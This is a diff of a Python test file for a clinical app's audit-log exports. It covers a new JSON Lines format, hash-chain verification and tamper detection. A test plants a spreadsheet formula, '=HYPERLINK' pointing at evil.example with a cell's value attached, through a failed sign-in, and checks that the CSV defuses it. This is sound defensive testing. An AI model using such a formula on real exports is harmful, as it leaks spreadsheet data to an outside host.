@@ -1,16 +1,19 @@
-"""CSV exports of vitals and of the audit log: real server, real database, a session walked
-through a reaction and a resume."""
+"""Exports of vitals (CSV) and of the audit log (CSV and JSON Lines): real server, real
+database, a session walked through a reaction and a resume."""
 
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
+import secrets
 from collections.abc import Awaitable, Callable
-from datetime import datetime, timedelta
+from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from typing import Any, TypeVar
 
+import httpx
 import pytest
 from sqlalchemy import func, select
 from sqlalchemy.ext.asyncio import AsyncSession
@@ -23,7 +26,10 @@ from app.review.exports import (
     VITALS_COLUMNS,
     AuditFilters,
     TimeRange,
+    audit_row,
+    check_audit_jsonl,
     stream_audit_csv,
+    stream_audit_jsonl,
     stream_vitals_csv,
 )
 from app.vitals.validation import MEASURED_FIELDS
@@ -31,7 +37,7 @@ from tests.session import conftest as session_fixtures
 from tests.session.conftest import SessionServer
 from tests.session.test_api_races_and_bad_input import ready_session
 from tests.session.test_api_walk import OK_VITALS, Bedside
-from tests.support import SignedInClient, run_async
+from tests.support import SignedInClient, login_form_token, run_async
 
 T = TypeVar("T")
 
@@ -135,6 +141,33 @@ def parse_csv(text: str) -> list[dict[str, str]]:
 
 def utc(text: str) -> datetime:
     return datetime.fromisoformat(text)
+
+
+def stored_text(value: Any) -> str:
+    """A stored audit value as the exports spell it (NULL as an empty cell)."""
+    if value is None:
+        return ""
+    return format_datetime(value) if isinstance(value, datetime) else str(value)
+
+
+def spreadsheet_cell(value: Any) -> str:
+    """A stored value as the audit CSV must show it: text a spreadsheet would run as a formula
+    (starting with = + - @, a tab or a carriage return) behind an apostrophe."""
+    text = stored_text(value)
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
+def parse_jsonl(text: str) -> list[dict[str, Any]]:
+    assert text == "" or text.endswith("\n")
+    return [json.loads(line) for line in text.split("\n") if line]
+
+
+def documented_hash(entry: dict[str, Any]) -> str:
+    """The recipe of the README, written out without the app's code: sha256 of prev_hash and
+    the canonical JSON of the entry's other fields (sorted keys, no spaces, UTF-8)."""
+    fields = {name: value for name, value in entry.items() if name != "hash"}
+    canonical = json.dumps(fields, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
+    return hashlib.sha256((entry["prev_hash"] + canonical).encode("utf-8")).hexdigest()
 
 
 @pytest.fixture
@@ -260,7 +293,8 @@ def test_the_audit_csv_is_the_log_itself_and_its_filters_work(
     rows = parse_csv(response.text)
     assert response.text.splitlines()[0].split(",") == list(AUDIT_COLUMNS)
 
-    # Every entry up to the export's own, in order, cell for cell as stored.
+    # Every entry up to the export's own, in order, cell for cell as stored, except that a
+    # cell a spreadsheet would run as a formula starts with an apostrophe.
     top = int(rows[-1]["seq"])
     stored = audit_entries(database_url, AuditEvent.seq <= top)
     assert [int(r["seq"]) for r in rows] == [e["seq"] for e in stored] == list(range(1, top + 1))
@@ -268,19 +302,10 @@ def test_the_audit_csv_is_the_log_itself_and_its_filters_work(
         assert row["hash"] == entry["hash"] and row["prev_hash"] == entry["prev_hash"]
         assert row["occurred_at"] == format_datetime(entry["occurred_at"])
         for name in AUDIT_COLUMNS:
-            value = entry[name]
-            shown = format_datetime(value) if isinstance(value, datetime) else value
-            assert row[name] == ("" if shown is None else str(shown)), (row["seq"], name)
+            assert row[name] == spreadsheet_cell(entry[name]), (row["seq"], name)
     # The export recorded itself before it was read: it is the last entry.
     assert rows[-1]["action"] == "export.audit_csv"
     assert rows[-1]["actor_username"] == auditor.account.username
-    # A reader can recompute this test's hashes from the file alone (empty cell = NULL).
-    for row in rows[start:]:
-        fields: dict[str, Any] = {k: (v if v != "" else None) for k, v in row.items()}
-        fields["seq"] = int(row["seq"])
-        fields["actor_id"] = int(row["actor_id"]) if row["actor_id"] else None
-        fields["occurred_at"] = utc(row["occurred_at"])
-        assert entry_hash(fields) == row["hash"], row["seq"]
 
     nurse = team["nurse"].account.username
     by_user = parse_csv(auditor.get("/audit/export.csv", params={"user": nurse}).text)
@@ -313,7 +338,8 @@ def test_the_audit_csv_is_the_log_itself_and_its_filters_work(
     assert exports and {r["action"] for r in exports} >= {"export.audit_csv"}
     assert all(r["action"].startswith("export.") for r in exports)
     audit_only = parse_csv(auditor.get("/audit/export.csv", params={"action": "export.au"}).text)
-    assert audit_only and {r["action"] for r in audit_only} == {"export.audit_csv"}
+    assert audit_only and "export.audit_csv" in {r["action"] for r in audit_only}
+    assert {r["action"] for r in audit_only} <= {"export.audit_csv", "export.audit_jsonl"}
 
     since = stored[start]["occurred_at"]
     until = since + timedelta(minutes=30)
@@ -351,14 +377,180 @@ def test_the_audit_csv_is_the_log_itself_and_its_filters_work(
     assert {e["actor_username"] for e in mine} == {auditor.account.username}
 
 
+def test_the_audit_jsonl_is_the_log_verbatim_and_the_chain_recomputes_from_it(
+    walked: Bedside, team: dict[str, SignedInClient], database_url: str
+) -> None:
+    # A browser string beyond ASCII, with NEL (U+0085), which str.splitlines() ends a line at.
+    odd = "Stepwise-Test/1.0 \x85 \u00dcbel"
+    patient = team["nurse"].post(
+        "/api/v1/patients",
+        json={
+            "mrn": f"T{secrets.token_hex(5)}",
+            "family_name": "M\u00fcller",
+            "given_name": "J",
+            "birth_date": "1970-04-02",
+            "weight_kg": 70,
+            "asthma": False,
+        },
+        headers={"user-agent": odd.encode("latin-1")},
+    )
+    assert patient.status_code == 201, patient.text
+    auditor = team["auditor"]
+    response = auditor.get("/audit/export.jsonl")
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"].startswith("application/jsonl")
+    assert "attachment" in response.headers["content-disposition"]
+    assert ".jsonl" in response.headers["content-disposition"]
+    assert response.headers["cache-control"] == "no-store"
+    assert response.content.isascii()  # no character of the text can break a line
+    entries = parse_jsonl(response.text)
+
+    # Every entry up to the export's own, every column with its stored value and type.
+    top = entries[-1]["seq"]
+    stored = audit_entries(database_url, AuditEvent.seq <= top)
+    assert [list(e) for e in entries] == [list(AUDIT_COLUMNS)] * len(stored)
+    assert entries == [
+        {name: format_datetime(v) if isinstance(v, datetime) else v for name, v in e.items()}
+        for e in stored
+    ]
+    assert any(e["actor_id"] is None for e in entries) and entries[-1]["actor_id"] is not None
+    assert [e["user_agent"] for e in entries if e["action"] == "patient.create"][-1] == odd
+    assert len(response.text.splitlines()) == len(entries)
+    assert entries[-1]["action"] == "export.audit_jsonl"
+    assert json.loads(entries[-1]["after_json"]) == {"filters": {}, "format": "jsonl"}
+
+    # The chain, recomputed from the file alone with the README's recipe.
+    previous = "0" * 64
+    for entry in entries:
+        assert entry["prev_hash"] == previous, entry["seq"]
+        assert documented_hash(entry) == entry["hash"], entry["seq"]
+        previous = entry["hash"]
+    check = check_audit_jsonl(response.text.splitlines())
+    assert check.ok and check.whole_chain, check
+    assert (check.entries, check.last_seq, check.last_hash) == (top, top, entries[-1]["hash"])
+
+    # The same filters as the CSV give the same entries (each export appends its own entry,
+    # which a later export may include).
+    nurse = team["nurse"].account.username
+    for params in ({"user": nurse}, {"session": str(walked.sid)}, {"action": "export.*"}):
+        in_csv = [
+            int(r["seq"]) for r in parse_csv(auditor.get("/audit/export.csv", params=params).text)
+        ]
+        found = parse_jsonl(auditor.get("/audit/export.jsonl", params=params).text)
+        in_jsonl = [e["seq"] for e in found]
+        assert in_csv and in_jsonl[: len(in_csv)] == in_csv, params
+        assert all(seq > in_csv[-1] for seq in in_jsonl[len(in_csv) :]), params
+        filtered = check_audit_jsonl(json.dumps(e) for e in found)
+        assert filtered.ok and filtered.entries == len(found), params
+        assert not filtered.whole_chain, params  # it starts after seq 1, or skips entries
+    assert export_entries(database_url, top)[-1]["action"] == "export.audit_jsonl"
+
+
+def test_a_changed_jsonl_export_is_caught_by_the_check(
+    walked: Bedside, team: dict[str, SignedInClient]
+) -> None:
+    lines = team["auditor"].get("/audit/export.jsonl").text.splitlines()
+    assert check_audit_jsonl(lines).whole_chain
+    middle = len(lines) // 2
+    entry = json.loads(lines[middle])
+
+    edited = {**entry, "reason": "nothing happened"}
+    check = check_audit_jsonl([*lines[:middle], json.dumps(edited), *lines[middle + 1 :]])
+    assert (check.line, check.problem) == (
+        middle + 1,
+        f"seq {entry['seq']}: hash does not match its contents",
+    )
+    # Whoever also recomputes the edited entry's hash breaks the link of the next one.
+    rehashed = {**edited, "hash": entry_hash(edited)}
+    check = check_audit_jsonl([*lines[:middle], json.dumps(rehashed), *lines[middle + 1 :]])
+    assert (check.line, check.problem) == (
+        middle + 2,
+        f"seq {entry['seq'] + 1}: prev_hash does not link to seq {entry['seq']}",
+    )
+    # A line dropped from an export of the whole log leaves a gap: no longer the whole chain.
+    dropped = check_audit_jsonl([*lines[:middle], *lines[middle + 1 :]])
+    assert dropped.ok and dropped.gaps == 1 and not dropped.whole_chain
+    swapped = check_audit_jsonl([*lines[:middle], lines[middle + 1], lines[middle]])
+    assert swapped.problem is not None and "out of order" in swapped.problem
+    assert check_audit_jsonl([lines[0], "{"]).problem == "not a line of JSON"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def failed_sign_in(base_url: str, user_agent: str) -> None:
+    """What anyone who can reach the sign-in page can do: a wrong password, from a browser
+    that calls itself whatever it likes."""
+    headers = {"origin": base_url, "user-agent": user_agent}
+    with httpx.Client(base_url=base_url, headers=headers, timeout=15) as stranger:
+        token = login_form_token(stranger)
+        answer = stranger.post(
+            "/login",
+            data={
+                "username": f"nobody-{secrets.token_hex(3)}",
+                "password": "not the password",
+                "login_token": token,
+                "next": "/",
+            },
+        )
+        assert answer.status_code == 401, answer.text
+
+
+def test_a_formula_planted_by_a_failed_sign_in_is_inert_in_the_csv_and_verbatim_in_the_jsonl(
+    session_server: SessionServer, team: dict[str, SignedInClient], database_url: str
+) -> None:
+    start = last_seq(database_url)
+    failed_sign_in(session_server.base_url, HYPERLINK)
+    [planted] = audit_entries(
+        database_url, AuditEvent.seq > start, AuditEvent.action == "auth.login_failed"
+    )
+    assert planted["user_agent"] == HYPERLINK and planted["actor_username"] == "anonymous"
+
+    auditor = team["auditor"]
+    text = auditor.get("/audit/export.csv").text
+    [row] = [r for r in parse_csv(text) if int(r["seq"]) == planted["seq"]]
+    assert row["user_agent"] == "'" + HYPERLINK
+    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
+    assert HYPERLINK not in cells
+    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
+
+    answer = auditor.get("/audit/export.jsonl")
+    assert answer.status_code == 200
+    entries = parse_jsonl(answer.text)
+    [entry] = [e for e in entries if e["seq"] == planted["seq"]]
+    assert entry["user_agent"] == HYPERLINK
+    assert documented_hash(entry) == entry["hash"] == planted["hash"]
+    check = check_audit_jsonl(answer.text.splitlines())
+    assert check.whole_chain and check.last_seq == entries[-1]["seq"] > planted["seq"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_every_audit_csv_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
+    row: dict[str, Any] = {name: f"{start}{name}" for name in AUDIT_COLUMNS}
+    row.update(seq=3, actor_id=None, occurred_at=datetime(2026, 11, 21, 9, 30, tzinfo=UTC))
+    cells = dict(zip(AUDIT_COLUMNS, audit_row(row), strict=True))
+    assert (cells["seq"], cells["actor_id"]) == ("3", "")
+    assert cells["occurred_at"] == "2026-11-21T09:30:00.000000Z"
+    for name in set(AUDIT_COLUMNS) - {"seq", "actor_id", "occurred_at"}:
+        assert cells[name] == f"'{start}{name}", name
+    # Text that does not start a formula is left as it is.
+    plain = {**row, "user_agent": "Mozilla/5.0 (=1+1)", "reason": "'quoted"}
+    cells = dict(zip(AUDIT_COLUMNS, audit_row(plain), strict=True))
+    assert (cells["user_agent"], cells["reason"]) == ("Mozilla/5.0 (=1+1)", "'quoted")
+
+
 def test_who_may_export_what(
     walked: Bedside, team: dict[str, SignedInClient], session_server: SessionServer, accounts
 ) -> None:
     physician = team["physician"].get("/audit/export.csv", params={"action": "export.*"})
     assert physician.status_code == 200
+    jsonl = team["physician"].get("/audit/export.jsonl", params={"action": "export.*"})
+    assert jsonl.status_code == 200
     for role in ("nurse", "pharmacist"):
-        refused = team[role].get("/audit/export.csv")
-        assert refused.status_code == 403 and "may not" in refused.text, role
+        for path in ("/audit/export.csv", "/audit/export.jsonl"):
+            refused = team[role].get(path)
+            assert refused.status_code == 403 and "may not" in refused.text, (role, path)
     for path in (f"/sessions/{walked.sid}/vitals.csv", "/vitals/export.csv"):
         for role in ("nurse", "physician", "pharmacist", "auditor"):
             assert team[role].get(path).status_code == 200, (role, path)
@@ -366,6 +558,7 @@ def test_who_may_export_what(
     try:
         for path in (
             "/audit/export.csv",
+            "/audit/export.jsonl",
             f"/sessions/{walked.sid}/vitals.csv",
             "/vitals/export.csv",
             f"/sessions/{walked.sid}/fhir",
@@ -390,6 +583,9 @@ def test_who_may_export_what(
         ("/audit/export.csv", {"session": "12a"}, "session", "whole number"),
         ("/audit/export.csv", {"patient": "0"}, "patient", "whole number"),
         ("/audit/export.csv", {"since": "9" * 100}, "since", "ISO 8601"),
+        ("/audit/export.jsonl", {"since": "yesterday"}, "since", "ISO 8601"),
+        ("/audit/export.jsonl", {"session": "12a"}, "session", "whole number"),
+        ("/audit/export.jsonl", {"user": "a\u202eb"}, "user", "plain text"),
         ("/vitals/export.csv", {"since": "2026-11-21T10:00:00+99:00"}, "since", "ISO 8601"),
         ("/vitals/export.csv", {"until": "noon"}, "until", "ISO 8601"),
         ("/sessions/{sid}/vitals.csv", {"since": "2026/11/21"}, "since", "ISO 8601"),
@@ -448,6 +644,10 @@ def test_small_batches_give_the_same_file_as_one_big_batch(
     whole = collect(database_url, lambda sm: stream_audit_csv(sm, filters, batch_size=10**6))
     entries = audit_entries(database_url, AuditEvent.entity_id == sid)
     assert small == whole and small.count(b"\r\n") == len(entries) + 1 > 20
+    small = collect(database_url, lambda sm: stream_audit_jsonl(sm, filters, batch_size=7))
+    whole = collect(database_url, lambda sm: stream_audit_jsonl(sm, filters, batch_size=10**6))
+    assert small == whole
+    assert [e["seq"] for e in parse_jsonl(small.decode())] == [e["seq"] for e in entries]
 
     times = TimeRange()
     small = collect(
